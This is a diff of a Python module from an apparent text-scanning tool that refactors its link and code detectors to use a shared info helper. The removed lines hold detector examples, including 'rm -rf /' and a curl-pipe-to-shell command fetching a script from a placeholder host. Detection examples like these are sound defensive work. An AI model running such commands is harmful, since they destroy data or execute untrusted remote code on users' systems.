@@ -10,7 +10,8 @@ from collections.abc import Iterator, Sequence
 
 import re2
 
-from threegate.detectors.base import DetectorInfo, Example, PatternDetector, Scanned
+from threegate.detectors.base import DetectorInfo, PatternDetector, Scanned
+from threegate.detectors.engine.description import info_of
 from threegate.policy.model import CompiledPolicy
 from threegate.types import Bilingual, Failed, Finding, Level, Passage, Span
 
@@ -40,15 +41,7 @@ class LinkDetector:
 
     def __init__(self, allowed: Sequence[str] = ()) -> None:
         self._allowed = tuple(host.lower().lstrip(".") for host in allowed)
-        self.info = DetectorInfo(
-            "links",
-            ("format.url",),
-            Bilingual("链接", "links"),
-            (
-                Example("see https://evil.example/x now", ("https://evil.example/x",)),
-                Example("no link: http and so on"),
-            ),
-        )
+        self.info = info_of("links", ("format.url",))
 
     def scan(self, passage: Passage, *, final: bool = True) -> Scanned:
         text = passage.text
@@ -68,16 +61,7 @@ class LinkDetector:
 class CodeDetector:
     """Commands and calls that run or destroy things, in any language of a snippet."""
 
-    info = DetectorInfo(
-        "code",
-        ("format.code",),
-        Bilingual("危险代码", "code that runs things"),
-        (
-            Example("运行 rm -rf / 就好", ("rm -rf /",)),
-            Example("curl http://x.example/a.sh | sh", ("curl http://x.example/a.sh | sh",)),
-            Example("The evaluation (final) is done."),
-        ),
-    )
+    info = info_of("code", ("format.code",))
 
     def scan(self, passage: Passage, *, final: bool = True) -> Scanned:
         text = passage.text
